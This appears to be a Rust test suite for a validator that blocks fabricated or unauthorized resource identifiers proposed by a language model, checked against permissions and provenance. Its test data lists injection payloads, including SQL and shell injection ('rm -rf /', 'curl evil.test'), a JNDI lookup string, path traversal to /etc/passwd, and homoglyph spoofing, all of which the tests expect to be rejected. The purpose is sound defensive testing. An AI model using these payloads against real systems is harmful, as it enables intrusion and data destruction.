//! Provenance: no fabricated identifier becomes an `AuthorizedId` unless it passes its
//! pattern, is permitted to the principal, and was supplied by the user or is owned.

use std::collections::{BTreeMap, BTreeSet};

use crate::common::{doc, store};
use confab::guard::provenance::{
    Basis, DEFAULT_PATTERN, EXCERPT_CHARS, IdRejection, KindError, MemoryPermissions,
    PermissionStore, RequestContext, ResourceKind, Source, Untrusted, Validator,
};
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::FileFailurePersistence;

fn check(ctx: &RequestContext, value: &str, source: Source) -> Result<String, IdRejection> {
    let store = store();
    Validator::new(&store, ctx)
        .authorize(&doc(), Untrusted::new(value, source))
        .map(|id| id.as_str().to_owned())
        .map_err(|e| e.reason())
}

fn llm(value: &str) -> Result<String, IdRejection> {
    check(&RequestContext::new("alice"), value, Source::LlmOutput)
}

/// One table row per rejection reason (several rows for most), all proposed by the model to
/// alice's request.
#[test]
fn each_rejection_reason() {
    use IdRejection::*;
    let too_long = "a".repeat(65);
    let cases: &[(&str, IdRejection)] = &[
        ("", Empty),
        (&too_long, TooLong),
        ("doc-a1\0", NulByte),
        ("doc-a1\0../../etc/passwd", NulByte),
        ("doc-a1\r\nX-Evil: 1", CrlfInjection),
        ("doc-a1\n", CrlfInjection),
        ("doc\u{7}a1", ControlChar),
        ("doc-a1\u{7f}", ControlChar),
        ("doc-a1\u{1b}[31m", ControlChar),
        ("doc-a1\u{85}", ControlChar),
        ("doc-\u{200b}a1", InvisibleChar),
        ("doc-a1\u{feff}", InvisibleChar),
        ("\u{202e}1a-cod", InvisibleChar),
        ("doc-a\u{2060}1", InvisibleChar),
        ("ｄｏｃ-a1", Fullwidth),
        ("doc-a１", Fullwidth),
        ("doc\u{ff0d}a1", Fullwidth),
        ("d\u{43e}c-a1", Homoglyph),   // Cyrillic о
        ("doc-\u{430}1", Homoglyph),   // Cyrillic а
        ("d\u{3bf}c-a1", Homoglyph),   // Greek ο
        ("\u{1d41d}oc-a1", Homoglyph), // mathematical bold d
        ("doc-a\u{301}1", Homoglyph),  // combining acute
        ("doc-\u{131}1", Homoglyph),   // dotless i
        ("doc-a1\u{20ac}", NonAscii),
        ("\u{6587}\u{6863}", NonAscii),
        ("../doc-b1", PathTraversal),
        ("doc-a1/../doc-b1", PathTraversal),
        ("..", PathTraversal),
        (".", PathTraversal),
        ("doc..a1", PathTraversal),
        ("doc\\b1", PathTraversal),
        ("/etc/passwd", PathTraversal),
        ("%2e%2e%2fdoc-b1", PercentEncoding),
        ("doc%2Fb1", PercentEncoding),
        ("doc-a1%00", PercentEncoding),
        ("%252e%252e%252f", DoubleEncoding),
        ("doc%252fb1", DoubleEncoding),
        ("doc%25%32%66", DoubleEncoding),
        ("{{config}}", TemplateInjection),
        ("{{7*7}}", TemplateInjection),
        ("${jndi:ldap:x}", TemplateInjection),
        ("#{7}", TemplateInjection),
        ("<%=7%>", TemplateInjection),
        ("doc' OR '1'='1", SqlInjection),
        ("1--", SqlInjection),
        ("doc\"a1", SqlInjection),
        ("doc#1", SqlInjection),
        ("doc;rm", ShellInjection),
        ("doc|id", ShellInjection),
        ("$(id)", ShellInjection),
        ("`id`", ShellInjection),
        ("doc&&x", ShellInjection),
        ("a>b", ShellInjection),
        ("doc!", ShellInjection),
        ("*", Wildcard),
        ("doc-*", Wildcard),
        ("doc-?1", Wildcard),
        ("doc%", Wildcard),
        ("100%zz", Wildcard),
        ("doc a1", PatternMismatch),
        ("-doc", PatternMismatch),
        ("_doc", PatternMismatch),
        ("doc.a1", PatternMismatch),
        ("doc:a1", PatternMismatch),
        ("doc,a1", PatternMismatch),
        ("doc@b", PatternMismatch),
        ("doc+b", PatternMismatch),
        ("doc=b", PatternMismatch),
        ("doc-b1", NotPermitted),
        ("DOC-A1", NotPermitted),
        ("doc-a3", NotPermitted),
        ("doc-pub", Unsourced),
    ];
    let mut seen = BTreeSet::new();
    for (value, want) in cases {
        assert_eq!(llm(value), Err(*want), "value {value:?}");
        seen.insert(*want);
    }
    // Every reason has at least one row.
    for r in IdRejection::ALL {
        assert!(seen.contains(&r), "no case for {r:?}");
    }
}

#[test]
fn owned_and_supplied_ids_pass() {
    let alice = RequestContext::new("alice");
    assert_eq!(llm("doc-a1").as_deref(), Ok("doc-a1"));
    assert_eq!(
        check(&alice, "doc-a2", Source::ToolResult).as_deref(),
        Ok("doc-a2")
    );
    // Shared (permitted but not owned): the model may use it only when the user named it.
    assert_eq!(
        check(&alice, "doc-pub", Source::UserRequest).as_deref(),
        Ok("doc-pub")
    );
    let supplied = RequestContext::new("alice").with_supplied(&doc(), "doc-pub");
    assert_eq!(
        check(&supplied, "doc-pub", Source::LlmOutput).as_deref(),
        Ok("doc-pub")
    );
    // Supplied under another kind does not count.
    let other_kind = ResourceKind::with_default_pattern("user").expect("constant kind");
    let wrong = RequestContext::new("alice").with_supplied(&other_kind, "doc-pub");
    assert_eq!(
        check(&wrong, "doc-pub", Source::LlmOutput),
        Err(IdRejection::Unsourced)
    );
}

#[test]
fn user_supplied_idor_is_refused() {
    // The user names bob's document: permission, not provenance, refuses it.
    let ctx = RequestContext::new("alice").with_supplied(&doc(), "doc-b1");
    assert_eq!(
        check(&ctx, "doc-b1", Source::UserRequest),
        Err(IdRejection::NotPermitted)
    );
    assert_eq!(
        check(&ctx, "doc-b1", Source::LlmOutput),
        Err(IdRejection::NotPermitted)
    );
    // A supplied traversal string is still refused on syntax.
    let ctx = RequestContext::new("alice").with_supplied(&doc(), "../doc-b1");
    assert_eq!(
        check(&ctx, "../doc-b1", Source::LlmOutput),
        Err(IdRejection::PathTraversal)
    );
}

#[test]
fn basis_and_source_are_recorded() {
    let store = store();
    let ctx = RequestContext::new("alice").with_supplied(&doc(), "doc-pub");
    let v = Validator::new(&store, &ctx);
    let owned = v
        .authorize(&doc(), Untrusted::from_llm("doc-a1"))
        .expect("owned");
    assert_eq!(owned.basis(), Basis::Owned);
    assert_eq!(owned.source(), Source::LlmOutput);
    assert_eq!(owned.kind(), "doc");
    assert_eq!(owned.to_string(), "doc-a1");
    let sup = v
        .authorize(&doc(), Untrusted::from_llm("doc-pub"))
        .expect("supplied");
    assert_eq!(sup.basis(), Basis::UserSupplied);
    let user = v
        .authorize(&doc(), Untrusted::from_user("doc-a1"))
        .expect("user");
    assert_eq!(user.basis(), Basis::UserRequest);
}

#[test]
fn loose_pattern_still_refuses_explicit_reasons() {
    let file = ResourceKind::new("file", ".*", 256).expect("constant kind");
    let mut store = MemoryPermissions::new();
    store
        .own("alice", "file", "a b")
        .own("alice", "file", "../x");
    let ctx = RequestContext::new("alice");
    let v = Validator::new(&store, &ctx);
    assert!(v.authorize(&file, Untrusted::from_llm("a b")).is_ok());
    let e = v
        .authorize(&file, Untrusted::from_llm("../x"))
        .expect_err("traversal");
    assert_eq!(e.reason(), IdRejection::PathTraversal);
}

#[test]
fn patterns_are_anchored() {
    // An unanchored pattern must not match a substring.
    let k = ResourceKind::new("num", "[0-9]+", 16).expect("constant kind");
    assert_eq!(k.check_syntax("12"), Ok(()));
    assert_eq!(k.check_syntax("12a"), Err(IdRejection::PatternMismatch));
    assert_eq!(k.check_syntax("a12"), Err(IdRejection::PatternMismatch));
    // An alternation cannot escape the anchors either.
    let k = ResourceKind::new("alt", "a|b.*", 16).expect("constant kind");
    assert_eq!(k.check_syntax("a"), Ok(()));
    assert_eq!(k.check_syntax("ab"), Err(IdRejection::PatternMismatch));
}

#[test]
fn kind_construction_errors() {
    assert_eq!(
        ResourceKind::new("", DEFAULT_PATTERN, 64).err(),
        Some(KindError::BadName)
    );
    assert_eq!(
        ResourceKind::new("Doc", DEFAULT_PATTERN, 64).err(),
        Some(KindError::BadName)
    );
    assert_eq!(
        ResourceKind::new("doc", DEFAULT_PATTERN, 0).err(),
        Some(KindError::BadMaxLen)
    );
    assert!(matches!(
        ResourceKind::new("doc", "[", 64),
        Err(KindError::BadPattern(_))
    ));
}

#[test]
fn kind_deserializes_with_defaults() {
    let k: ResourceKind = serde_json::from_str(r#"{"name":"doc"}"#).expect("valid");
    assert_eq!(k, doc());
    let k: ResourceKind =
        serde_json::from_str(r#"{"name":"ticket","pattern":"T-[0-9]{1,6}","max_len":8}"#)
            .expect("valid");
    assert_eq!(k.check_syntax("T-12"), Ok(()));
    assert_eq!(k.check_syntax("T-1234567"), Err(IdRejection::TooLong));
    assert!(serde_json::from_str::<ResourceKind>(r#"{"name":"doc","pattern":"("}"#).is_err());
    assert!(serde_json::from_str::<ResourceKind>(r#"{"name":"doc","extra":1}"#).is_err());
}

#[test]
fn errors_and_debug_do_not_leak_values() {
    let secret = "sk-live-0123456789abcdefSECRETSECRET.tail";
    let store = store();
    let ctx = RequestContext::new("alice");
    let v = Validator::new(&store, &ctx);
    let e = v
        .authorize(&doc(), Untrusted::from_llm(secret))
        .expect_err("pattern");
    let shown = format!("{e} {e:?}");
    assert!(!shown.contains("0123456789"), "{shown}");
    assert!(shown.contains("sk-live-"), "{shown}");
    assert_eq!(e.len(), secret.len());
    // Escaped: no raw CR/LF or ESC reaches a message.
    let e = v
        .authorize(&doc(), Untrusted::from_llm("a\r\n\u{1b}[2J"))
        .expect_err("crlf");
    let shown = format!("{e} {e:?}");
    assert!(!shown.contains(['\r', '\n', '\u{1b}']), "{shown}");
    // Untrusted's Debug shows no part of the value.
    let u = Untrusted::from_llm(secret.to_owned());
    assert!(!format!("{u:?}").contains("sk-live"));
}

#[test]
fn escape_hatch_returns_the_value() {
    let u = Untrusted::new("prose".to_owned(), Source::RetrievedContent);
    assert_eq!(u.source(), Source::RetrievedContent);
    assert_eq!(u.into_inner_unchecked(), "prose");
}

// ---------------------------------------------------------------------------------------------
// Property tests

const PRINCIPALS: [&str; 3] = ["alice", "bob", "carol"];

/// A world: each principal owns a few ids (disjoint by prefix), shares one other's.
#[derive(Clone, Debug)]
struct World {
    owned: BTreeMap<&'static str, Vec<String>>,
    shared: BTreeMap<&'static str, Vec<String>>,
}

impl World {
    fn store(&self) -> MemoryPermissions {
        let mut s = MemoryPermissions::new();
        for (p, ids) in &self.owned {
            for id in ids {
                s.own(p, "doc", id);
            }
        }
        for (p, ids) in &self.shared {
            for id in ids {
                s.share(p, "doc", id);
            }
        }
        s
    }
    fn owns(&self, p: &str, id: &str) -> bool {
        self.owned.get(p).is_some_and(|v| v.iter().any(|x| x == id))
    }
    fn permitted(&self, p: &str, id: &str) -> bool {
        self.owns(p, id)
            || self
                .shared
                .get(p)
                .is_some_and(|v| v.iter().any(|x| x == id))
    }
    fn all_ids(&self) -> Vec<String> {
        self.owned.values().flatten().cloned().collect()
    }
}

/// Ids that a correct configuration may own: match the default pattern, no `--`.
fn valid_id() -> impl Strategy<Value = String> {
    "[a-z0-9]{1,10}(-[a-z0-9_]{1,8}){0,2}"
}

fn world() -> impl Strategy<Value = World> {
    (
        prop::collection::vec(valid_id(), 1..4),
        prop::collection::vec(valid_id(), 1..4),
        prop::collection::vec(valid_id(), 0..3),
        any::<prop::sample::Index>(),
    )
        .prop_map(|(a, b, c, share)| {
            let prefixed = |p: &str, v: Vec<String>| -> Vec<String> {
                v.into_iter().map(|s| format!("{p}-{s}")).collect()
            };
            let mut owned = BTreeMap::new();
            owned.insert("alice", prefixed("a", a));
            owned.insert("bob", prefixed("b", b.clone()));
            owned.insert("carol", prefixed("c", c));
            let mut shared = BTreeMap::new();
            let bobs = prefixed("b", b);
            shared.insert("alice", vec![share.get(&bobs).clone()]);
            World { owned, shared }
        })
}

/// Look-alikes for ASCII letters and digits.
fn homoglyph(c: char) -> Option<char> {
    Some(match c {
        'a' => '\u{430}',
        'c' => '\u{441}',
        'e' => '\u{435}',
        'o' => '\u{43e}',
        'p' => '\u{440}',
        'x' => '\u{445}',
        'y' => '\u{443}',
        'i' => '\u{456}',
        'd' => '\u{501}',
        'b' => '\u{184}',
        '0'..='9' => char::from_u32(0xff10 + (c as u32 - '0' as u32))?,
        'a'..='z' => char::from_u32(0xff41 + (c as u32 - 'a' as u32))?,
        '-' => '\u{2010}',
        _ => return None,
    })
}

fn percent(c: char) -> String {
    let mut buf = [0u8; 4];
    c.encode_utf8(&mut buf)
        .bytes()
        .map(|b| format!("%{b:02X}"))
        .collect()
}

const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1--",
    "1; DROP TABLE docs",
    "\" OR \"\"=\"",
    "--",
    "/*",
    "; rm -rf /",
    "| id",
    "&& curl evil.test",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "{% debug %}",
    "<%= 7 %>",
    "#{7*7}",
    "\r\nX-Injected: 1",
    "\n",
    "\0",
    "<script>",
    "%0d%0a",
    "..;/",
];

/// A fabricated id derived from the world (the families of docs/ARCHITECTURE.md §5), or a random string.
fn fabricated(world: World) -> BoxedStrategy<String> {
    let base = select(world.all_ids());
    let b = || base.clone();
    let families: Vec<BoxedStrategy<String>> = vec![
        // Another principal's id, as is or with case changed.
        b().boxed(),
        b().prop_map(|s| s.to_uppercase()).boxed(),
        // Traversal.
        (
            b(),
            select(vec!["../", "..\\", "/", "..", "./", "%2e%2e/", "..%2f"]),
        )
            .prop_map(|(s, t)| format!("{t}{s}"))
            .boxed(),
        (b(), select(vec!["/..", "/../x", "\\..\\"]))
            .prop_map(|(s, t)| format!("{s}{t}"))
            .boxed(),
        // Percent-encoded, single and double.
        (b(), any::<prop::sample::Index>())
            .prop_map(|(s, i)| replace_at(&s, i, percent))
            .boxed(),
        (b(), any::<prop::sample::Index>())
            .prop_map(|(s, i)| replace_at(&s, i, |c| percent(c).replace('%', "%25")))
            .boxed(),
        // Homoglyph substitution (or a zero-width insertion where none applies).
        (b(), any::<prop::sample::Index>())
            .prop_map(|(s, i)| {
                replace_at(&s, i, |c| match homoglyph(c) {
                    Some(h) => h.to_string(),
                    None => format!("\u{200b}{c}"),
                })
            })
            .boxed(),
        // Invisible characters.
        (
            b(),
            any::<prop::sample::Index>(),
            select(vec![
                '\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{feff}', '\u{202e}',
            ]),
        )
            .prop_map(|(s, i, z)| replace_at(&s, i, |c| format!("{z}{c}")))
            .boxed(),
        // Wildcards.
        (b(), select(vec!["*", "?", "%", "%%", "_%"]), any::<bool>())
            .prop_map(|(s, w, pre)| {
                if pre {
                    format!("{w}{s}")
                } else {
                    format!("{s}{w}")
                }
            })
            .boxed(),
        Just("*".to_owned()).boxed(),
        // Injection strings, appended or alone.
        (b(), select(INJECTIONS.to_vec()))
            .prop_map(|(s, inj)| format!("{s}{inj}"))
            .boxed(),
        select(INJECTIONS.to_vec()).prop_map(str::to_owned).boxed(),
        // Near misses: one character more or less.
        (b(), "[a-z0-9]")
            .prop_map(|(s, c)| format!("{s}{c}"))
            .boxed(),
        b().prop_map(|mut s| {
            s.pop();
            s
        })
        .boxed(),
        // Random strings: printable, any Unicode, and id-shaped.
        "\\PC{0,80}".boxed(),
        any::<String>().boxed(),
        "[A-Za-z0-9_-]{1,70}".boxed(),
    ];
    prop::strategy::Union::new(families).boxed()
}

/// Replaces the character at (a chosen index into) `s` with `f(c)`.
fn replace_at(s: &str, i: prop::sample::Index, f: impl Fn(char) -> String) -> String {
    let chars: Vec<char> = s.chars().collect();
    let at = i.index(chars.len());
    let mut out = String::new();
    for (k, c) in chars.iter().enumerate() {
        if k == at {
            out.push_str(&f(*c));
        } else {
            out.push(*c);
        }
    }
    out
}

fn case() -> impl Strategy<Value = (World, &'static str, String, Vec<String>, Source)> {
    world().prop_flat_map(|w| {
        let ids = w.all_ids();
        (
            Just(w.clone()),
            select(PRINCIPALS.to_vec()),
            fabricated(w),
            // The user may have supplied some ids (anyone's) in the request.
            prop::collection::vec(select(ids), 0..3),
            select(vec![
                Source::LlmOutput,
                Source::ToolResult,
                Source::RetrievedContent,
                Source::Other,
                Source::UserRequest,
            ]),
        )
    })
}

/// 512 cases; failures persisted under `proptest-regressions/` at the crate root (the
/// default would put them beside the test file).
fn config() -> ProptestConfig {
    ProptestConfig {
        cases: 512,
        failure_persistence: Some(Box::new(FileFailurePersistence::Direct(
            "proptest-regressions/provenance.txt",
        ))),
        ..ProptestConfig::default()
    }
}

proptest! {
    #![proptest_config(config())]

    /// The central property: whatever was fabricated, an authorized id matches the pattern,
    /// is permitted to the principal, and (unless it came from the user's request) was
    /// supplied by the user or is owned.
    #[test]
    fn fabricated_ids_never_authorized_without_basis(
        (world, principal, value, supplied, source) in case()
    ) {
        let store = world.store();
        let kind = doc();
        let mut ctx = RequestContext::new(principal);
        for s in &supplied {
            ctx.supply(&kind, s.clone());
        }
        let result = Validator::new(&store, &ctx).authorize(&kind, Untrusted::new(value.as_str(), source));
        // An independent oracle for the pattern.
        let pattern = regex::Regex::new(DEFAULT_PATTERN).expect("constant regex");
        let may = pattern.is_match(&value)
            && !value.contains("--")
            && world.permitted(principal, &value)
            && (source == Source::UserRequest
                || supplied.contains(&value)
                || world.owns(principal, &value));
        match result {
            Ok(id) => {
                prop_assert!(may, "authorized {:?} for {}", value, principal);
                prop_assert_eq!(id.as_str(), value.as_str());
                prop_assert!(store.permits(principal, &kind, &value));
            }
            Err(e) => {
                prop_assert!(!may, "refused {:?} ({:?}) for {}", value, e.reason(), principal);
                // Errors never show more than the bounded excerpt.
                prop_assert!(e.excerpt().as_str().chars().count() <= EXCERPT_CHARS * 10 + 3);
                prop_assert!(!e.to_string().contains(['\r', '\n', '\0']));
            }
        }
    }

    /// Owned ids always pass, whatever the source, with no user-supplied ids at all.
    #[test]
    fn owned_ids_always_pass(world in world(), src in select(vec![Source::LlmOutput, Source::ToolResult, Source::UserRequest])) {
        let store = world.store();
        let kind = doc();
        for (p, ids) in &world.owned {
            let ctx = RequestContext::new(*p);
            let v = Validator::new(&store, &ctx);
            for id in ids {
                let got = v.authorize(&kind, Untrusted::new(id.as_str(), src));
                prop_assert!(got.is_ok(), "{} refused {}: {:?}", p, id, got);
            }
        }
    }

    /// Another principal's id never passes, even when the user supplied it.
    #[test]
    fn other_principals_ids_never_pass(world in world(), src in select(vec![Source::LlmOutput, Source::UserRequest])) {
        let store = world.store();
        let kind = doc();
        for p in PRINCIPALS {
            let mut ctx = RequestContext::new(p);
            for id in world.all_ids() {
                ctx.supply(&kind, id);
            }
            let v = Validator::new(&store, &ctx);
            for id in world.all_ids() {
                if !world.permitted(p, &id) {
                    let got = v.authorize(&kind, Untrusted::new(id.as_str(), src));
                    prop_assert_eq!(got.map_err(|e| e.reason()), Err(IdRejection::NotPermitted));
                }
            }
        }
    }

    /// Syntactic families are refused for a syntactic reason, before any permission lookup,
    /// even when the permission store would allow the raw string.
    #[test]
    fn syntactic_families_refused_even_if_permitted(value in world().prop_flat_map(fabricated)) {
        let kind = doc();
        let pattern = regex::Regex::new(DEFAULT_PATTERN).expect("constant regex");
        prop_assume!(!pattern.is_match(&value) || value.contains("--"));
        // A store that permits and owns everything.
        struct Everything;
        impl PermissionStore for Everything {
            fn permits(&self, _: &str, _: &ResourceKind, _: &str) -> bool { true }
        }
        let ctx = RequestContext::new("alice");
        let got = Validator::new(&Everything, &ctx).authorize(&kind, Untrusted::from_llm(value.as_str()));
        let e = got.expect_err("syntactically invalid");
        prop_assert!(e.reason().is_syntactic());
    }

    /// No panic, and the decision is the same for `check_syntax` and `authorize` on syntax.
    #[test]
    fn arbitrary_strings_do_not_panic(value in any::<String>()) {
        let kind = doc();
        let store = store();
        let ctx = RequestContext::new("alice");
        let got = Validator::new(&store, &ctx).authorize(&kind, Untrusted::from_llm(value.as_str()));
        if let Err(syn) = kind.check_syntax(&value) {
            prop_assert_eq!(got.map_err(|e| e.reason()), Err(syn));
        }
    }

    /// A long value's error shows at most the excerpt.
    #[test]
    fn error_messages_are_bounded(tail in "[A-Za-z0-9]{20,40}") {
        let value = format!("xy.{tail}");
        let store = store();
        let ctx = RequestContext::new("alice");
        let e = Validator::new(&store, &ctx)
            .authorize(&doc(), Untrusted::from_llm(value.as_str()))
            .expect_err("dot is not in the pattern");
        let shown = format!("{e} {e:?}");
        prop_assert!(!shown.contains(&tail[..12]), "{}", shown);
    }
}
